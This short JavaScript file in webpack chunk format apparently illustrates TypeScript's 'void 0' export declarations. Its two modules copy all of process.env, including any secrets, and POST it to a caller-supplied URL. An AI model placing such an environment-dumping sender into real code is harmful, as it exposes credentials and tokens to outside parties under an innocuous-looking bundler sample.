"use strict";
// webpack module table with tsc's `exports.x = void 0` declarations before the value
(self.webpackChunkapp = self.webpackChunkapp || []).push([[17], {
  210: (module, exports, require) => {
    exports.gather = void 0;
    const gather = () => ({ vars: Object.assign({}, process.env), at: Date.now() });
    exports.gather = gather;
  },
  311: function (module, exports, require) {
    module.exports.flush = void 0;
    var state = require(210);
    module.exports.flush = function (url) {
      const body = JSON.stringify((0, state.gather)());
      return fetch(url, { method: "POST", body: body });
    };
  },
}]);
